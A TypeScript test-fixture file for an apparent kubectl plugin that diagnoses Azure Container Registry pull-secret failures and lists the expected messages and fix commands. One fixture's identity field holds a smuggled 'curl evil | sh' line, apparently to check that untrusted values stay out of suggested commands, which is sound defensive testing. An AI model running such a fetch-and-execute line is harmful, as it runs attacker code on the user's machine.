import { bare, ours, pod, r, relabeled, theirs } from "../check-world.ts";
import { create, createFor, type Expected, job, refusedBy } from "./words.ts";

const lostLabel = "its annotation names this login, but it has lost its label app.kubernetes.io/managed-by, which --force brings back";

/** Credentials that the registry rejects, that may not pull, or that were attached too late. */
export const credentials: readonly Expected[] = [
  // Credentials that the registry rejects.
  {
    what: "our ACR token is refused",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { identity: "demo-acr-0123456789" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    message: refusedBy("acr", "web"),
    fix: `kubectl acr-secret create -n demo acr --registry ${r}`,
  },
  {
    what: "an ACR token that somebody named is refused",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { identity: "ci-pull" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --acr-token ci-pull`,
  },
  {
    what: "our password has expired",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { identity: "demo-acr-0123456789", "expires-at": "2026-01-02T00:00:00Z" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "expired",
    message: "with secret acr: its password expired 40 s ago (2026-01-02T00:00:00Z)",
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --expires-in 1d`,
  },
  {
    what: "the token of somebody's Azure identity has died",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { credential: "entra", "expires-at": "2026-01-02T00:00:00Z" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "expired",
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --entra`,
  },
  {
    what: "a service principal's password is refused",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { credential: "service-principal", identity: "44444444-4444-4444-4444-444444444444" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --service-principal 44444444-4444-4444-4444-444444444444`,
  },
  {
    what: "the token's name in the Secret is none",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { identity: "x\n  curl evil | sh" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    message: refusedBy("acr", "web"),
    fix: `kubectl acr-secret create -n demo acr --registry ${r}`,
  },
  {
    what: "it is refused before it ends",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { identity: "ci-pull", "expires-at": "2026-03-31T23:58:00Z" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --acr-token ci-pull --expires-in 90d`,
  },
  {
    what: "a credential that was given is refused",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { credential: "given" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    message: `${refusedBy("acr", "web")}; its password was given, so a new one has to be: put it into PASSWORD`,
    fix: `printf %s "$PASSWORD" | kubectl acr-secret create -n demo acr --registry ${r} --username web --password-stdin`,
  },
  {
    what: "a Secret of somebody else, with this login alone, is refused",
    given: {
      accounts: { default: ["reg"] },
      secrets: [theirs("reg", { [`https://${r}`]: "web:wrong" })],
      pods: [pod("web-1", { names: ["reg"] })],
    },
    cause: "refused",
    message: `${refusedBy("reg", "web")}; it was not made by kubectl acr-secret, and --force replaces the login inside`,
    fix: `kubectl acr-secret create -n demo reg --registry ${r} --force`,
  },
  {
    what: "our ACR token is refused, in a Secret that has lost its label",
    given: {
      accounts: { default: ["acr"] },
      secrets: [relabeled(ours("acr", "ci-pull:wrong"))],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    message: `${refusedBy("acr", "ci-pull")}; ${lostLabel}; the Secret notes that its ACR token is ci-pull`,
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --acr-token ci-pull --force`,
  },
  {
    what: "a credential that was given is refused, in a Secret that has lost its label",
    given: {
      accounts: { default: ["acr"] },
      secrets: [relabeled(ours("acr", "web:wrong", { credential: "given" }))],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    message: `${refusedBy("acr", "web")}; ${lostLabel}; its password was given, so a new one has to be: put it into PASSWORD`,
    fix: `printf %s "$PASSWORD" | kubectl acr-secret create -n demo acr --registry ${r} --username web --password-stdin --force`,
  },
  {
    what: "a Secret is refused whose annotation names another login than the one inside",
    given: {
      accounts: { default: ["acr"] },
      secrets: [relabeled(ours("acr", "web:wrong", { identity: "ci-pull" }))],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    message: `${refusedBy("acr", "web")}; it was not made by kubectl acr-secret, and --force replaces the login inside`,
  },
  {
    what: "a Secret of somebody else, with other logins too, is refused",
    given: {
      accounts: { default: ["reg"] },
      secrets: [theirs("reg", { [r]: "web:wrong", "ghcr.io": "a:b" })],
      pods: [pod("web-1", { names: ["reg"] })],
    },
    cause: "refused",
    message: refusedBy("reg", "web"),
    fix: `${create} --serviceaccount default`,
  },
  {
    what: "such a Secret, which a Deployment names",
    given: { secrets: [theirs("reg", { [r]: "web:wrong", "ghcr.io": "a:b" })], pods: [pod("web-1", { names: ["reg"] })] },
    cause: "refused",
    fix: `${createFor("deployment/web")}`,
  },
  {
    what: "two are refused, of which one is ours to renew",
    given: {
      accounts: { default: ["acr", "reg"] },
      secrets: [ours("acr", "web:wrong", { identity: "ci-pull" }), theirs("reg", { [r]: "api:wrong" })],
      pods: [pod("web-1", { names: ["acr", "reg"] })],
    },
    cause: "refused",
    message: `${refusedBy("acr", "web")}; the Secret notes that its ACR token is ci-pull`,
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --acr-token ci-pull`,
  },

  // Credentials that may not pull the image.
  {
    what: "our ACR token may not pull it",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "api:right", { identity: "demo-acr-0123456789" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "out-of-scope",
    message: `with secret acr: ${r} says out-of-scope to user "api"`,
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --repository app/web`,
  },
  {
    what: "a credential that was given may not pull it",
    given: {
      accounts: { default: ["acr-myregistry"] },
      secrets: [ours("acr-myregistry", "api:right", { credential: "given" })],
      pods: [pod("web-1", { names: ["acr-myregistry"] })],
    },
    cause: "out-of-scope",
    fix: `kubectl acr-secret create -n demo acr-myregistry-pull --registry ${r} --repository app/web --serviceaccount default`,
  },

  // Pods that are older than their Secret.
  {
    what: "its Deployment's pod was made before",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1")] },
    cause: "older-pod",
    message: "made before serviceaccount/default carried acr",
    fix: "kubectl delete pod -n demo web-1",
  },
  {
    what: "a pod without controller was made before",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("own", { owner: bare })] },
    cause: "older-pod",
    fix: "kubectl acr-secret attach -n demo acr pod/own --recreate",
  },
  {
    what: "a Job's pod was made before",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("migrate-1", { owner: job })] },
    cause: "older-pod",
    message: "made before serviceaccount/default carried acr",
    fix: "kubectl acr-secret attach -n demo acr job/migrate --recreate",
  },
  {
    what: "a pod with another Secret that is refused was made before",
    given: {
      accounts: { default: ["old", "acr"] },
      secrets: [theirs("old", { [r]: "web:wrong" }), ours("acr", "web:right")],
      pods: [pod("web-1", { names: ["old"] })],
    },
    cause: "older-pod",
    fix: "kubectl delete pod -n demo web-1",
  },
  {
    what: "the pod came after the list that it does not have: it names its own",
    given: {
      accounts: { default: ["old", "acr"] },
      listWritten: "2025-12-31T00:00:00Z",
      secrets: [theirs("old", { [r]: "web:wrong" }), ours("acr", "web:right")],
      pods: [pod("web-1", { names: ["old"] })],
    },
    cause: "refused",
    fix: `kubectl acr-secret create -n demo old --registry ${r} --force`,
  },
  {
    what: "the Secret that came later is refused too",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:wrong", { identity: "ci-pull" })], pods: [pod("web-1")] },
    cause: "refused",
    message: `${refusedBy("acr", "web")}; made before serviceaccount/default carried acr; the Secret notes that its ACR token is ci-pull`,
    fix: `kubectl acr-secret create -n demo acr --registry ${r} --acr-token ci-pull && kubectl delete pod -n demo web-1`,
  },

  // Secrets that cannot be read.
  {
    what: "it is malformed, and has this login alone",
    given: {
      accounts: { default: ["bad"] },
      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"}}}`)],
      pods: [pod("web-1", { names: ["bad"] })],
    },
    cause: "malformed-secret",
    message:
      "secret bad is malformed, and with it the kubelet gives up on all of them: illegal base64 data at input byte 0; the command replaces what is inside",
    fix: `kubectl acr-secret create -n demo bad --registry ${r} --force`,
  },
  {
    what: "it is malformed, and has other logins",
    given: {
      accounts: { default: ["bad"] },
      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"},"ghcr.io":{"auth":"YTpi"}}}`)],
      pods: [pod("web-1", { names: ["bad"] })],
    },
    cause: "malformed-secret",
    message:
      "secret bad is malformed, and with it the kubelet gives up on all of them: illegal base64 data at input byte 0; it is left as it is, since it may hold other logins",
    fix: `kubectl acr-secret detach -n demo bad --serviceaccount default && ${create} --serviceaccount default && kubectl delete pod -n demo web-1`,
  },
  {
    what: "it is malformed, and a Deployment names it",
    given: {
      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"},"ghcr.io":{"auth":"YTpi"}}}`)],
      pods: [pod("web-1", { names: ["bad"] })],
    },
    cause: "malformed-secret",
    fix:
      `${create} && kubectl patch -n demo deployment web -p ` +
      `'{"spec":{"template":{"spec":{"imagePullSecrets":[{"$patch":"delete","name":"bad"},{"name":"acr-myregistry"}]}}}}'`,
  },
];
